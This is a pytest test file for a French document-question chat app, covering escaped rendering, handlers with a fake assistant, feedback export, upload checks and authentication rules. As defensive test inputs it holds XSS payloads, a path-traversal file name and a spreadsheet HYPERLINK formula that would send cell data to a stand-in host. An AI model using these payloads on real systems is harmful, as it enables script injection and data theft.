"""The chat's pieces without a server: safe rendering, handlers (with a FAKE assistant), feedback store and export,
upload checks, and the command's refusal to open a public address without accounts."""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from rag.answer import Answer, Citation, Passage

ROOT = Path(__file__).resolve().parents[1]
AIMF = Path(sys.executable).parent / "aimf"
ENV = {**os.environ, "GRADIO_ANALYTICS_ENABLED": "False", "HF_HUB_OFFLINE": "1"}


# --- a FAKE assistant: scripted answers, the real validation ----------------------------------------------------
class FakeAssistant:
    """FAKE: streams a scripted answer (or raises a scripted error); validation is the real one."""

    def __init__(self, settings, script=None):
        self.settings = settings
        self.script = script or (lambda question, history: default_answer(question))
        self.resets = 0
        self.calls: list[dict] = []

    def validate(self, question):
        from rag.assistant import Assistant

        return Assistant.validate(self, question)

    def answer_stream(self, question, history=None, generator=None, k=None, where=None, verbose=False):
        self.calls.append({"question": question, "history": history, "generator": generator, "k": k, "where": where})
        answer = self.script(question, history)
        if isinstance(answer, Exception):
            raise answer
        for word in answer.text.split(" "):
            yield word + " "
        yield answer

    def generator_status(self):
        return {"extractive": None, "llamacpp": "AIMF_LLM_MODEL_PATH non défini", "openai": "AIMF_LLM_BASE_URL non défini"}

    def documents(self):
        return [{"source": "a.txt", "title": "Doc A", "kind": "txt", "pages": 0, "chunks": 3, "indexed_at": ""}]

    def reset(self):
        self.resets += 1


PASSAGE = "Avant. Dès 2013, la commission est présidée par la Ville de Nantes. Après."
QUOTE = "Dès 2013, la commission est présidée par la Ville de Nantes."


def default_answer(question: str) -> Answer:
    start = PASSAGE.index(QUOTE)
    return Answer(
        text=f"{QUOTE} [1]", question=question, standalone_question=question,
        citations=[Citation(n=1, source="a.txt", title="Doc A", quote=QUOTE, start=100, end=100 + len(QUOTE), score=0.8,
                            passage=PASSAGE, quote_start=start, quote_end=start + len(QUOTE), chunk_id="c1")],
        further=[Passage(chunk_id="c2", source="a.txt", title="Doc A", text="Autre passage.", score=0.5)],
    )


@pytest.fixture
def ui_settings(tmp_path):
    from rag.settings import Settings

    return Settings(_env_file=None, data_dir=tmp_path / "data", corpus_dir=tmp_path / "corpus", ui_allow_upload=True)


def drain(gen):
    return list(gen)


# --- rendering ------------------------------------------------------------------------------------------------
def test_inert_markdown_breaks_html_images_links_and_math():
    from ui.render import inert_markdown

    out = inert_markdown('<script>alert(1)</script> <img src=x onerror="a()"> ![p](http://evil.example/p.png) '
                         '[clic](https://evil.example) www.evil.example 5 $ \\*')
    assert "<" not in out and ">" not in out  # every tag escaped
    assert not re.search(r"(?<!\\)[\[\]]", out)  # every bracket escaped: no image nor link syntax can form
    assert "http://" not in out and "https://" not in out and "www." not in out  # no autolink
    assert "$" not in out


def test_chat_text_turns_markers_into_chips_and_escapes_the_rest():
    from ui.render import chat_text

    out = chat_text("Nantes <b>x</b> [1] et [12].", turn=3)
    assert 'class="aimf-marker aimf-m-3-1"' in out and 'aimf-m-3-12' in out
    assert "&lt;b&gt;" in out and "<b>" not in out


def test_sources_panel_escapes_titles_and_highlights_the_quote():
    from ui.handlers import answer_record
    from ui.render import context_html, sources_html

    answer = default_answer("q")
    answer.citations[0].title = '<img src=x onerror="alert(1)">Doc'
    record = answer_record(answer, msg_index=1)
    html = sources_html(record, 0, "fr")
    assert "<img" not in html and "&lt;img" in html
    assert f"<mark>{QUOTE}</mark>" in html
    assert "similarité 0,80" in html and 'data-turn="0"' in html  # no estimate recorded: the cosine, named as such
    assert "Également retrouvé" in html
    answer.citations[0].relevance = 0.93
    html = sources_html(answer_record(answer, msg_index=1), 0, "fr")
    assert "pertinence estimée 93\u202f%" in html and 'style="width:93%"' in html
    assert "estimated relevance 93%" in sources_html(answer_record(answer, msg_index=1), 0, "en")
    ctx = context_html(record, "c", 0, "en")
    assert "Passage in context" in ctx and f"<mark>{QUOTE}</mark>" in ctx and "Avant." in ctx


def test_abstention_panel_lists_further_reading():
    from ui.render import sources_html

    record = {"abstained": True, "citations": [], "further": [{"title": "Doc B", "text": "<b>proche</b>", "score": 0.4}]}
    html = sources_html(record, 0, "fr")
    assert "Pas de réponse dans les documents" in html and "Pour aller plus loin" in html
    assert "&lt;b&gt;proche" in html and "<b>" not in html


def test_quote_span_falls_back_to_search():
    from ui.render import quote_span

    assert quote_span("abc def", "def", 0, 1) == (4, 7)
    assert quote_span("abc", "zzz", None, None) is None


# --- handlers with the FAKE assistant ---------------------------------------------------------------------------
def test_respond_streams_then_records_the_answer(ui_settings):
    from ui.handlers import Handlers

    fake = FakeAssistant(ui_settings)
    h = Handlers(fake, ui_settings)
    outs = drain(h.respond("Qui préside ?", [], None, "llamacpp", 4, ["a.txt"], "fr"))
    assert len(outs) >= 3  # placeholder, pieces, final
    chat, state, sources, _q, _ctx, _status, record = outs[-1]
    assert chat[-1]["role"] == "assistant" and "aimf-m-0-1" in chat[-1]["content"]
    assert record["citations"][0]["quote"] == QUOTE and state["turns"][0]["msg_index"] == 1
    assert "aimf-card" in sources
    # an unavailable writer is not used; the filter becomes a where clause
    assert fake.calls[0]["generator"] == "extractive" and fake.calls[0]["where"] == {"source": "a.txt"}
    # the follow-up gets the plain history (answer text, not the page's markup)
    drain(h.respond("Et ensuite ?", chat, state, "extractive", 5, [], "fr"))
    assert fake.calls[1]["history"] == [{"role": "user", "content": "Qui préside ?"},
                                       {"role": "assistant", "content": f"{QUOTE} [1]"}]


@pytest.mark.filterwarnings("ignore::UserWarning")  # gr.Warning outside a request is a Python warning
def test_question_error_is_a_french_message_and_keeps_the_chat(ui_settings):
    from ui.handlers import Handlers

    h = Handlers(FakeAssistant(ui_settings), ui_settings)
    outs = drain(h.respond("   ", [{"role": "user", "content": "x"}], None, "extractive", 5, [], "fr"))
    assert len(outs) == 1
    chat, _state, *_rest = outs[0]
    assert chat == [{"role": "user", "content": "x"}]
    assert "La question est vide" in outs[0][5]
    outs = drain(h.respond("x" * (ui_settings.max_question_chars + 1), [], None, "extractive", 5, [], "fr"))
    assert "trop longue" in outs[0][5]


def test_index_outage_resets_the_connection_and_says_so_in_french(ui_settings):
    from rag.store import IndexUnavailableError
    from ui.handlers import Handlers

    fake = FakeAssistant(ui_settings, script=lambda q, h: IndexUnavailableError("Index indisponible : refused"))
    h = Handlers(fake, ui_settings)
    chat = drain(h.respond("Qui préside ?", [], None, "extractive", 5, [], "fr"))[-1][0]
    assert fake.resets == 1
    assert "momentanément indisponible" in chat[-1]["content"] and "Traceback" not in chat[-1]["content"]


def test_unexpected_error_shows_no_stack_trace(ui_settings):
    from ui.handlers import Handlers

    h = Handlers(FakeAssistant(ui_settings, script=lambda q, h: KeyError("secret internals")), ui_settings)
    outs = drain(h.respond("Qui préside ?", [], None, "extractive", 5, [], "en"))
    text = outs[-1][0][-1]["content"]
    assert "unexpected error" in text and "secret internals" not in text


@pytest.mark.filterwarnings("ignore::UserWarning")
def test_writer_choices_show_unavailable_reasons(ui_settings):
    from ui.handlers import Handlers, writer_choices

    fake = FakeAssistant(ui_settings)
    choices = dict((v, label) for label, v in writer_choices(fake.generator_status(), "fr"))
    # the reason in plain words, not the variable's name
    assert "indisponible" in choices["llamacpp"] and "fichier du modèle local n'est pas configuré" in choices["llamacpp"]
    assert "AIMF_" not in choices["llamacpp"] and "AIMF_" not in choices["openai"]
    english = dict((v, label) for label, v in writer_choices(fake.generator_status(), "en"))
    assert "the model server's address is not configured" in english["openai"]
    assert "indisponible" not in choices["extractive"]
    h = Handlers(fake, ui_settings)
    assert h.check_writer("openai", "fr") == "extractive"


# --- feedback ---------------------------------------------------------------------------------------------------
def test_feedback_store_and_export_command(tmp_path, ui_settings):
    from ui.handlers import Handlers

    h = Handlers(FakeAssistant(ui_settings), ui_settings)
    state = drain(h.respond("Qui préside ?", [], None, "extractive", 5, [], "fr"))[-1][1]
    state, message, _ = h.send_feedback("down", "Il manque la date", None, state, "fr")
    assert "enregistré" in message
    state, _, _ = h.send_feedback("up", "Finalement très bien", 0, state, "fr")  # same answer: the row is updated
    rows = h.feedback.rows()
    assert len(rows) == 1
    row = rows[0]
    assert row["vote"] == "up" and row["comment"] == "Finalement très bien" and row["question"] == "Qui préside ?"
    assert row["citations"][0]["quote"] == QUOTE and row["generator"] == "extractive" and row["created_at"]

    env = {**ENV, "AIMF_DATA_DIR": str(ui_settings.data_dir)}
    out_jsonl, out_csv = tmp_path / "fb.jsonl", tmp_path / "fb.csv"
    for fmt, out in (("jsonl", out_jsonl), ("csv", out_csv)):
        proc = subprocess.run([str(AIMF), "feedback", "export", "--format", fmt, "--out", str(out)], env=env,
                              capture_output=True, text=True, timeout=60, cwd=tmp_path)
        assert proc.returncode == 0, proc.stderr
    exported = [json.loads(line) for line in out_jsonl.read_text(encoding="utf-8").splitlines()]
    assert exported[0]["comment"] == "Finalement très bien" and exported[0]["citations"][0]["quote"] == QUOTE
    with out_csv.open(encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["vote"] == "up" and json.loads(rows[0]["citations"])[0]["n"] == 1


# --- uploads ------------------------------------------------------------------------------------------------------
def test_upload_checks_type_size_and_name(tmp_path):
    from ui.documents import UploadError, accept_upload

    corpus = tmp_path / "corpus"
    exe = tmp_path / "virus.exe"
    exe.write_bytes(b"MZ")
    with pytest.raises(UploadError, match="Format non pris en charge"):
        accept_upload(exe, exe.name, corpus, 1, "fr")
    big = tmp_path / "gros.txt"
    big.write_bytes(b"a" * (2 * 1024 * 1024))
    with pytest.raises(UploadError, match="trop volumineux"):
        accept_upload(big, big.name, corpus, 1, "fr")
    ok = tmp_path / "note.txt"
    ok.write_text("Bonjour.", encoding="utf-8")
    first = accept_upload(ok, "../../.cachée note.TXT", corpus, 1, "fr")
    second = accept_upload(ok, "../../.cachée note.TXT", corpus, 1, "fr")
    assert first.parent == second.parent == corpus / "uploads"
    assert not first.name.startswith(".") and first.suffix == ".txt" and first != second


# --- the command ------------------------------------------------------------------------------------------------
def test_refuses_a_public_address_without_accounts(tmp_path):
    env = {k: v for k, v in ENV.items() if k != "AIMF_UI_AUTH"}
    env["AIMF_DATA_DIR"] = str(tmp_path / "data")
    proc = subprocess.run([str(AIMF), "ui", "--host", "0.0.0.0", "--port", "7999"], env=env, capture_output=True,
                          text=True, timeout=60, cwd=tmp_path)
    assert proc.returncode == 2
    assert "0.0.0.0" in proc.stderr and 'AIMF_UI_AUTH="' in proc.stderr and "--no-auth" in proc.stderr
    env["AIMF_UI_AUTH"] = "sans-mot-de-passe"
    proc = subprocess.run([str(AIMF), "ui", "--host", "0.0.0.0"], env=env, capture_output=True, text=True, timeout=60,
                          cwd=tmp_path)
    assert proc.returncode == 2 and "mal formé" in proc.stderr


def test_auth_pairs_and_loopback():
    from ui.cli import AuthError, is_loopback, parse_auth

    assert parse_auth("marie:a:b, paul:x") == [("marie", "a:b"), ("paul", "x")]
    assert parse_auth(None) == []
    with pytest.raises(AuthError):
        parse_auth("marie")
    assert is_loopback("127.0.0.1") and is_loopback("localhost") and is_loopback("::1")
    assert not is_loopback("0.0.0.0") and not is_loopback("192.168.1.5")


def test_command_modules_import_nothing_heavy():
    code = ("import sys, ui.cli, ui.feedback_cli, ui.bench_ui; "
            "heavy = [m for m in ('gradio', 'torch', 'sentence_transformers', 'chromadb') if m in sys.modules]; "
            "print(heavy); sys.exit(1 if heavy else 0)")
    proc = subprocess.run([sys.executable, "-c", code], env=ENV, capture_output=True, text=True, timeout=60, cwd=ROOT)
    assert proc.returncode == 0, proc.stdout + proc.stderr


# --- hardening: uploads, feedback export, retention, comment length ----------------------------------------------
def test_upload_never_overwrites_a_file_created_after_the_name_was_checked(tmp_path, monkeypatch):
    """Another upload of the same name lands between a check and the copy (forced here by a check that always says
    'free'): the other user's file stays whole, this one gets its own name."""
    from ui.documents import accept_upload

    corpus = tmp_path / "corpus"
    theirs = corpus / "uploads" / "note.txt"
    theirs.parent.mkdir(parents=True)
    theirs.write_text("Le fichier d'un autre utilisateur.", encoding="utf-8")
    mine = tmp_path / "note.txt"
    mine.write_text("Mon fichier.", encoding="utf-8")
    monkeypatch.setattr(Path, "exists", lambda self: False)
    dest = accept_upload(mine, "note.txt", corpus, 1, "fr")
    monkeypatch.undo()
    assert dest != theirs and dest.read_text(encoding="utf-8") == "Mon fichier."
    assert theirs.read_text(encoding="utf-8") == "Le fichier d'un autre utilisateur."


def test_failed_ingest_removes_only_its_own_upload(tmp_path, ui_settings, monkeypatch):
    """Two uploads of one name at once: the one whose ingest fails deletes its copy, never the other's."""
    import threading

    from ui.documents import accept_upload, ingest_upload

    src = tmp_path / "note.txt"
    src.write_text("Bonjour.", encoding="utf-8")
    barrier, dests = threading.Barrier(8), []

    def upload():
        barrier.wait()
        dests.append(accept_upload(src, "note.txt", ui_settings.corpus_dir, 1, "fr"))

    threads = [threading.Thread(target=upload) for _ in range(8)]
    for th in threads:
        th.start()
    for th in threads:
        th.join()
    assert len(set(dests)) == 8 and all(d.read_text(encoding="utf-8") == "Bonjour." for d in dests)

    class BrokenIngestor:  # FAKE: an index that refuses every write
        def __init__(self, *args, **kwargs):
            pass

        def run(self, paths):
            raise RuntimeError("Index indisponible")

    import ingest.pipeline

    monkeypatch.setattr(ingest.pipeline, "Ingestor", BrokenIngestor)
    ok, message = ingest_upload(dests[0], ui_settings, FakeAssistant(ui_settings), "fr")
    assert not ok and "n'a pas pu être indexé" in message
    assert not dests[0].exists() and all(d.exists() for d in dests[1:])


def test_csv_export_neutralises_formulas_and_reads_back_exactly(tmp_path):
    from evals.feedback import read_records
    from ui.feedback import FeedbackStore, export_lines

    store = FeedbackStore(tmp_path / "fb.sqlite")
    nasty = ['=HYPERLINK("http://198.51.100.7/?x="&A1,"clic")', "+33 1 23", "-2+3", "@SUM(A1)", "\tcaché",
             "\rretour", "'déjà cité", "Normal"]
    for text in nasty:
        store.record("down", {"question": text, "text": "Réponse", "citations": []}, comment=text)
    out = tmp_path / "fb.csv"
    out.write_text("".join(export_lines(store.rows(), "csv")), encoding="utf-8", newline="")
    with out.open(encoding="utf-8", newline="") as f:
        cells = [row[k] for row in csv.DictReader(f) for k in ("question", "comment")]
    assert cells and not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells)
    stored = nasty + [t.strip() for t in nasty]  # questions as asked, comments stripped
    assert {c for c in cells if c.startswith("'")} == {"'" + t for t in stored if t[:1] in "=+-@\t\r'"}
    back = read_records(out)
    assert [r["question"] for r in back] == nasty and [r["comment"] for r in back] == [t.strip() for t in nasty]


def test_feedback_retention_purges_old_rows(tmp_path):
    import sqlite3
    from datetime import datetime, timedelta, timezone

    from ui.feedback import FeedbackStore

    store = FeedbackStore(tmp_path / "fb.sqlite", retention_days=30)
    old = store.record("up", {"question": "Ancienne", "text": "R"})
    store.record("up", {"question": "Récente", "text": "R"})
    past = (datetime.now(timezone.utc) - timedelta(days=31)).isoformat(timespec="seconds")
    with sqlite3.connect(tmp_path / "fb.sqlite") as db:
        db.execute("UPDATE feedback SET created_at=?, updated_at=? WHERE id=?", (past, past, old))
    assert [r["question"] for r in store.rows()] == ["Récente"]
    keep = FeedbackStore(tmp_path / "fb2.sqlite", retention_days=0)  # 0: kept until deleted
    row = keep.record("up", {"question": "Gardée", "text": "R"})
    with sqlite3.connect(tmp_path / "fb2.sqlite") as db:
        db.execute("UPDATE feedback SET created_at=?, updated_at=? WHERE id=?", (past, past, row))
    assert [r["question"] for r in keep.rows()] == ["Gardée"]


# --- what users hit in the chat ------------------------------------------------------------------------------------
TWO = "Le marché ouvre le samedi. Les pirogues arrivent à l'aube. Le poisson fumé se vend au quai."


def test_two_quoted_sentences_apart_get_two_highlights_and_nothing_between():
    from ui.render import context_html, sources_html

    first, second = "Le marché ouvre le samedi.", "Le poisson fumé se vend au quai."
    record = {"text": f"{first} {second} [1]", "citations": [{
        "n": 1, "source": "m.md", "title": "M", "quote": TWO, "passage": TWO, "quote_start": 0, "quote_end": len(TWO),
        "start": 0, "end": len(TWO), "score": 0.8}]}
    for html in (sources_html(record, 0, "fr"), context_html(record, "c", 0, "fr")):
        assert re.findall(r"<mark>(.*?)</mark>", html) == [first, second]
    # a written answer (no sentence quoted word for word): the citation's span, whole
    record["text"] = "Le marché a lieu le samedi [1]"
    assert len(re.findall(r"<mark>", sources_html(record, 0, "fr"))) == 1


def test_text_around_a_passage_is_pieced_from_neighbouring_chunks():
    from rag.context import around

    doc = "Premier paragraphe du discours.\n\nDeuxième paragraphe, celui qui est cité.\n\nTroisième paragraphe, la suite."
    a, b = doc.index("Deuxième"), doc.index("cité.") + len("cité.")
    chunks = [(0, doc[:b]), (doc.index("celui"), doc[doc.index("celui"):])]  # overlapping, as the splitter makes them
    before, after = around(chunks, a, b, chars=200)
    assert before.strip() == "Premier paragraphe du discours." and after.strip() == "Troisième paragraphe, la suite."


def test_passage_view_shows_the_text_around_it(ui_settings):
    from ui.handlers import Handlers

    class AroundAssistant(FakeAssistant):  # FAKE index: the document's neighbouring chunks
        def surroundings(self, source, start, end, chars=600):
            from rag.context import around

            doc = "Le paragraphe précédent. " + PASSAGE + " Le paragraphe suivant."
            return around([(100 - PASSAGE.index(QUOTE) - 25, doc)], start, end, chars)

    h = Handlers(AroundAssistant(ui_settings), ui_settings)
    state = drain(h.respond("Qui préside ?", [], None, "extractive", 5, [], "fr"))[-1][1]

    class Click:
        _data = {"turn": 0, "kind": "c", "idx": 0}

    _state, _sources, body, _box = h.show_passage(state, "fr", Click())
    assert "Le paragraphe précédent." in body and "Le paragraphe suivant." in body and f"<mark>{QUOTE}</mark>" in body
    assert body.index("précédent") < body.index("<mark>") < body.index("suivant")
    assert body.count("Avant.") == 1  # the passage itself is not repeated in its surroundings


def test_english_question_over_french_documents_says_so_in_english(ui_settings):
    from ui.handlers import Handlers

    def english(question, history):
        answer = default_answer(question)
        answer.lang = "en"
        return answer

    h = Handlers(FakeAssistant(ui_settings, script=english), ui_settings)
    chat, _state, sources, *_ = drain(h.respond("Who chairs the commission?", [], None, "extractive", 5, [], "en"))[-1]
    assert "Answer quoted from French documents." in chat[-1]["content"]
    assert "Answer quoted word for word from the documents" in sources and "extractive" not in sources
    h = Handlers(FakeAssistant(ui_settings), ui_settings)  # a French question over French documents: no note
    chat = drain(h.respond("Qui préside ?", [], None, "extractive", 5, [], "fr"))[-1][0]
    assert "aimf-lang-note" not in chat[-1]["content"]


def test_feedback_comment_confirmed_and_dropped_when_the_vote_turns(ui_settings):
    import gradio as gr

    from ui.handlers import Handlers

    h = Handlers(FakeAssistant(ui_settings), ui_settings)
    chat, state, *_ = drain(h.respond("Qui préside ?", [], None, "extractive", 5, [], "fr"))[-1]
    like = lambda liked: gr.LikeData(target=None, data={"index": 1, "value": chat[1]["content"], "liked": liked})  # noqa: E731
    state, _box, vote, turn, message, _comment = h.on_like(state, "fr", like(False))
    assert "avis est enregistré" in message
    state, message, box = h.send_feedback(vote, "Il manque la date", turn, state, "fr")
    assert "commentaire est enregistré" in message and box == ""
    assert h.feedback.rows()[0]["comment"] == "Il manque la date"
    state, _box, vote, _turn, _message, comment_box = h.on_like(state, "fr", like(True))
    assert vote == "up" and comment_box == "" and h.feedback.rows()[0]["comment"] == ""
    assert h.feedback.rows()[0]["vote"] == "up"


def test_comment_beyond_the_limit_is_refused_with_its_length(ui_settings):
    from ui.handlers import Handlers

    settings = ui_settings.model_copy(update={"feedback_max_comment_chars": 50})
    h = Handlers(FakeAssistant(settings), settings)
    state = drain(h.respond("Qui préside ?", [], None, "extractive", 5, [], "fr"))[-1][1]
    _state, message, box = h.send_feedback("down", "x" * 80, None, state, "fr")
    assert "80 caractères" in message and "maximum 50" in message and not h.feedback.rows()
    assert box is not None and box != ""  # the comment stays in the box (gr.skip), to be shortened


def test_two_questions_in_one_session_keep_both_turns(ui_settings):
    """The page sends both questions with the chat it held before either answer: the second continues from the
    first's answer instead of replacing it."""
    from ui.handlers import Handlers, new_state

    h = Handlers(FakeAssistant(ui_settings), ui_settings)
    request = type("Request", (), {"session_hash": "s1"})()
    state0 = new_state()
    first = drain(h.respond("Qui préside ?", [], state0, "extractive", 5, [], "fr", request))[-1]
    second = drain(h.respond("Depuis quand ?", [], state0, "extractive", 5, [], "fr", request))[-1]
    chat, state = second[0], second[1]
    assert [m["content"] for m in chat if m["role"] == "user"] == ["Qui préside ?", "Depuis quand ?"]
    assert len(state["turns"]) == 2 and state["turns"][1]["msg_index"] == 3 and first[1]["turns"][0]["msg_index"] == 1
    # gr.State is read when the answer starts (already holding the first turn) while the page sent its older chat
    third = drain(h.respond("Et après ?", first[0][:2], state, "extractive", 5, [], "fr", request))[-1]
    assert [m["content"] for m in third[0] if m["role"] == "user"] == ["Qui préside ?", "Depuis quand ?", "Et après ?"]
    other = drain(h.respond("Autre ?", [], new_state(), "extractive", 5, [], "fr", request))[-1]  # a new conversation
    assert len(other[1]["turns"]) == 1


def test_upload_limit_follows_the_file_size_setting(tmp_path):
    from rag.settings import Settings

    assert Settings(_env_file=None, max_file_mb=50).upload_limit_mb == 50
    assert Settings(_env_file=None, max_file_mb=50, ui_max_upload_mb=5).upload_limit_mb == 5
    assert Settings(_env_file=None, max_file_mb=10, ui_max_upload_mb=20).upload_limit_mb == 10  # ingest refuses more


def test_unsupported_sentence_gets_a_visible_badge_and_supporting_spans_are_highlighted(ui_settings):
    from rag.answer import QuoteSpan, SentenceCheck
    from ui.handlers import Handlers

    good, bad = "La commission est présidée par Nantes [1].", "Elle a été créée en 1990 [1]."

    def written(question, history):
        answer = default_answer(question)
        answer.generator, answer.text = "openai", f"{good} {bad}"
        start = PASSAGE.index("la commission")
        answer.citations[0].quote_spans = [(start, PASSAGE.index("Nantes.") + len("Nantes."))]
        answer.sentences = [
            SentenceCheck(text=good, start=0, end=len(good), markers=[1], supported=True,
                          quotes=[QuoteSpan(n=1, start=start, end=start + 10, text="x")]),
            SentenceCheck(text=bad, start=len(good) + 1, end=len(good) + 1 + len(bad), markers=[1], supported=False,
                          reason="number", detail="1990 ne figure pas dans le passage cité", missing=["1990"]),
        ]
        return answer

    h = Handlers(FakeAssistant(ui_settings, script=written), ui_settings)
    chat, _state, sources, *_ = drain(h.respond("Qui préside ?", [], None, "extractive", 5, [], "fr"))[-1]
    content = chat[-1]["content"]
    assert content.count("aimf-unsupported") == 1 and "non étayé" in content
    assert content.index("présidée") < content.index("1990") < content.index("aimf-unsupported")  # after the bad one
    assert "1990 ne figure pas" in content  # why, in the badge's tooltip
    assert re.findall(r"<mark>(.*?)</mark>", sources) == ["la commission est présidée par la Ville de Nantes."]
